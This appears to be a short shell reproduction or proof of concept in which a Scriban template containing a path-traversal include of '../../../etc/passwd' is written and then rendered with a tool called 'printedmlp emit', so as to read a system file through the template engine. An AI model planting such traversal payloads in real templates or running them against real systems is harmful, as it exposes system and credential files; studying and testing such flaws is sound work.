mkdir -p mine/verilog && echo "{{ include '../../../etc/passwd' }}" >mine/verilog/module.v.sbn
printedmlp emit design/model.json --out out --templates mine
